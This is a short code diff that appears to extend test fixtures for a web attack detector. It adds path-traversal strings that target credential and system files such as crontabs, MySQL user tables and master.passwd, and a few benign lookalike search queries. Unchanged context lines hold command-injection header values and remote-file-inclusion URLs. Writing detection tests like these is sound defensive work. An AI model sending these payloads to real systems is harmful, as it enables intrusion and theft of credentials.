@@ -1246,7 +1246,10 @@ CMDI_R7 = [
 CMDI_R7_HEADERS = ["REF:cat /etc/shadow", "REF:x.example.com;id", "REF:/bin/sh -c id",
                    "UA:ping -c 3 198.51.100.1;uname -a", "REF:www.example.com;c$!at /et$?c/hosts"]
 TRAV_R7_HEADERS = ["UA:/etc/shadow", "REF:/proc/self/environ", "UA:../../../../etc/passwd",
-                   "/@fs/etc/passwd", "/@fs/etc/shadow?import", "/static/proc/self/environ"]
+                   "/@fs/etc/passwd", "/@fs/etc/shadow?import", "/static/proc/self/environ",
+                   "/get?file=/var/spool/cron/crontabs/root", "/x?page=/var/mail/root",
+                   "/y?f=/var/lib/mysql/mysql/user.MYD", "/z?inc=/private/etc/master.passwd",
+                   "/w?doc=/dev/shm/sess_1", "/v?f=/usr/pkg/etc/httpd/httpd.conf"]
 SENS_R7 = ["/wp-content/debug.log", "/app/logs/errors.log", "/storage/logs/error.log", "/cgi-bin/error_log"]
 RFI_R7 = ["/plugins/spam.php?_CONF[path]=https://203.0.113.4/x", "/index.php?cfg[include]=http://198.51.100.2/a",
           "/modules/m.php?settings[template]=ftp://203.0.113.9/t"]
@@ -1311,6 +1314,7 @@ BENIGN_R7 = [
     "/search?q=hotels+for+me+in+(london)+do+you+know", "/search?q=if+defined+benefit+(for+example)+plans",
     "/search?q=child_process+exec+example", "/search?q=object+constructor.prototype", "/search?q=alert()+not+working",
     "/img?image[src]=https://cdn.example.com/a.png", "/blog?post[body]=https://example.org/x",
+    "/search?q=/var/lib/docker+is+full", "/search?q=htaccess+redirect+rules", "/blog/var-lib-explained",
 ]
 
 
